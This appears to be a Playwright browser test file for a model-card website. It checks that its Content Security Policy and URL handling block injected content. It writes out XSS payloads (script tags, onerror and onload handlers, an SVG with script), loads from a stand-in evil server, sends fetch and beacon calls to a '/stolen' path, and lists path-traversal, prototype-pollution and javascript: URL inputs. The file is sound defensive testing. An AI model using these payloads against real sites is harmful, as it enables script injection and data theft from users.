"""A page into which a stranger's markup got, as if our escaping had failed, and the links that strangers hand out."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser.demo_sites import ours
from tests.browser.sites import SITE, STATIC, search_site, serving_files
from tests.fixtures.browser import Watched
from tests.fixtures.site_rows import make_row
from tests.fixtures.web_server import Answer, Server, serving
from tests.model_cards.site.hubs import add, build
from wellread.model_cards.site.pages import demo
from wellread.model_cards.site.places import Site

pytestmark = pytest.mark.heavy

ROWS = [make_row("tiny"), make_row("__proto__x", tags=("__proto__", "constructor"), tasks=("toString",))]
RAN = "document.title = 'ran'"
PIXEL = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert(1)\"><script>alert(1)</script></svg>"

INJECTED = {
    "a script": ("script-src", f"<script>{RAN}</script>"),
    "a module": ("script-src", f'<script type="module">{RAN}</script>'),
    "a script from elsewhere": ("script-src", '<script src="{other}/evil.js"></script>'),
    "a script in an address": ("script-src", f'<script src="data:text/javascript,{RAN}"></script>'),
    "a handler": ("script-src", f'<img src="missing.png" onerror="{RAN}">'),
    "a handler of a picture": ("script-src", f'<svg onload="{RAN}"></svg>'),
    "a style": ("style-src", "<style>h1 {{ color: red }}</style>"),
    "a style's attribute": ("style-src", '<p style="position:fixed;inset:0">x</p>'),
    "a style sheet from elsewhere": ("style-src", '<link rel="stylesheet" href="{other}/evil.css">'),
    "a picture from elsewhere": ("img-src", '<img src="{other}/pixel.png" alt="">'),
    "a font or sound from elsewhere": ("default-src", '<video src="{other}/a.mp4" poster="{other}/pixel.png"></video>'),
    "a page within": ("default-src", '<iframe src="{other}/page.html"></iframe>'),
    "a page within, written out": ("script-src", f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>'),
    "an object": ("default-src", '<object data="{other}/page.html"></object>'),
    "another base": ("base-uri", '<base href="{other}/">'),
}  # fmt: skip
"""What got into the page → the directive that stops it."""


@pytest.fixture(scope="module")
def other() -> Iterator[Server]:
    """Somebody else's server, which has all that is asked of it."""
    paths = ("/evil.js", "/evil.css", "/pixel.png", "/page.html", "/a.mp4", "/taken", "/stolen")
    with serving({path: Answer(RAN.encode()) for path in paths}) as server:
        yield server


def _with(markup: str) -> dict[str, bytes]:
    """A site with a page that has markup before its heading."""
    page = search_site([])["changelog.html"].decode()
    return search_site(ROWS, {"evil.html": page.replace("<h1>", f"{markup}<h1>", 1).encode()})


def _settle(seen: Watched) -> list[str]:
    """What was refused, taken out of the complaints."""
    seen.page.wait_for_load_state("networkidle")
    refused = [said for said in seen.complaints if "Content Security Policy" in said]
    seen.complaints[:] = [said for said in seen.complaints if said not in refused and "404" not in said]
    return refused


@pytest.mark.parametrize("what", INJECTED)
def test_what_got_into_a_page_is_stopped_by_its_policy(seen: Watched, other: Server, what: str) -> None:
    directive, markup = INJECTED[what]
    before = len(other.asked)
    with serving_files(_with(markup.replace("{other}", other.url).replace("{{", "{").replace("}}", "}"))) as server:
        seen.page.goto(f"{server.url}/evil.html")
        refused = _settle(seen)
        assert seen.page.title() != "ran"
        assert seen.page.evaluate("document.baseURI") == f"{server.url}/evil.html"
    assert any(directive in said for said in refused), refused
    assert other.asked[before:] == []


def test_nothing_is_sent_elsewhere_by_a_form_or_a_script(seen: Watched, other: Server) -> None:
    form = f'<form method="post" action="{other.url}/taken"><button id="evil">x</button></form>'
    before = len(other.asked)
    with serving_files(_with(form)) as server:
        seen.page.goto(f"{server.url}/evil.html")
        seen.page.evaluate("document.getElementById('evil').click()")  # a real click waits for where it would lead
        tried = f"fetch('{other.url}/stolen').then(() => 'sent', () => 'refused')"
        assert seen.page.evaluate(tried) == "refused"
        assert seen.page.evaluate(f"navigator.sendBeacon('{other.url}/stolen', 'x')") in (True, False)
        refused = _settle(seen)
    assert any("form-action" in said for said in refused)
    assert any("connect-src" in said for said in refused)
    assert other.asked[before:] == []


@pytest.mark.parametrize("page", ["changelog.html", "demo.html"])
def test_no_text_becomes_code(seen: Watched, page: str) -> None:
    """The demo's page may compile WebAssembly, and still evaluates nothing."""
    script = b"try { eval('1'); document.title = 'ran' } catch { document.title = 'refused' }"
    files = search_site(ROWS)
    files["demo.html"] = demo.demo_page(Site(title=SITE.title, demo="none here")).encode()
    files[page] = files[page].replace(b"</body>", b'<script src="assets/evil.js"></script></body>')
    with serving_files(files | {"assets/evil.js": script, "assets/demo/demo.css": b""}) as server:
        seen.page.goto(f"{server.url}/{page}")
        expect(seen.page).to_have_title("refused")
        _settle(seen)


def test_a_picture_with_a_script_in_it_runs_none(seen: Watched) -> None:
    with serving_files(_with('<img src="evil.svg" alt="">') | {"evil.svg": PIXEL.encode()}) as server:
        seen.page.on("dialog", lambda dialog: seen.complaints.append(dialog.message))
        seen.page.goto(f"{server.url}/evil.html", wait_until="networkidle")


def test_no_page_that_wellread_serves_is_shown_in_anothers_frame(
    seen: Watched, tmp_path_factory: pytest.TempPathFactory
) -> None:
    root = tmp_path_factory.mktemp("framed")
    add(root / "hub")
    build(root / "hub", root / "hub")
    with ours(root / "hub") as url:
        frame = f'<!doctype html><title>frame</title><iframe src="{url}/models/en/tiny.html"></iframe>'
        with serving({"/": Answer(frame.encode(), headers={"Content-Type": "text/html"})}) as thief:
            seen.page.goto(f"{thief.url}/", wait_until="networkidle")
            assert not any("Tiny" in each.content() for each in seen.page.frames[1:])
    assert any("frame-ancestors" in said for said in seen.complaints)
    seen.complaints.clear()


# ---------------------------------------------------------------- links that strangers hand out

WORDS = (
    *("<img src=x onerror=document.title='ran'>", "javascript:alert(1)", "__proto__", "constructor", "../../x", "%"),
    *("a" * 5_000, "\x00\ufffe", "(((((((((((((((((((((((a+)+)+)+", "\u202e", "*" * 500),
)


@pytest.mark.parametrize("words", WORDS)
def test_a_search_that_a_link_asks_is_words(seen: Watched, words: str) -> None:
    said = quote(words)
    facets = "&".join(f"{facet}={said}" for facet in ("language", "task", "tag", "sort", "__proto__", "constructor"))
    with serving_files(search_site(ROWS)) as server:
        for asked in (f"q={said}", facets):
            # What the search still asks for when the server is gone would be a complaint.
            seen.page.goto(f"{server.url}/index.html?{asked}", wait_until="networkidle")
            expect(seen.page.locator("#status")).to_contain_text("model")
        _stays(seen, server)
        assert seen.page.evaluate("Object.keys(Object.prototype)") == []


@pytest.mark.parametrize(
    "model",
    [
        *("../../x", "en/../../hub", "en/%2e%2e/x", "en/tiny/../../../index", "//evil.example/x", "en/x?y", "en/x%23"),
        *("https://evil.example/en/x", "javascript:alert(1)", "__proto__/x", "en/__proto__", "constructor", "<b>/x"),
    ],
)
@pytest.mark.parametrize("page", ["compare.html?models=", "demo.html?model="])
def test_a_model_that_a_link_names_is_one_of_this_site(seen: Watched, page: str, model: str) -> None:
    files = search_site(ROWS) | {"demo.html": demo.demo_page(Site(title="x", demo="")).encode()}
    files |= {f"assets/demo/{file.name}": file.read_bytes() for file in _demo_files()}
    with serving_files(files) as server:
        seen.page.goto(f"{server.url}/{page}{quote(model, safe='')}", wait_until="networkidle")
        _stays(seen, server)
        asked = [urlsplit(url).path for url in seen.requests if url.endswith(".json")]
        assert all(path.startswith("/models/") and ".." not in path for path in asked)
    seen.complaints[:] = [said for said in seen.complaints if "404" not in said]  # the browser's own line


def _demo_files() -> Iterator[Path]:
    yield from (file for file in (STATIC / "demo").iterdir() if file.suffix in (".js", ".css"))


def _stays(seen: Watched, server: Server) -> None:
    """Nothing ran, nothing was asked of another host, and the page is where it was."""
    assert seen.page.title() != "ran"
    assert all(url.startswith((server.url, "data:")) for url in seen.requests)
    assert seen.page.url.startswith(server.url)
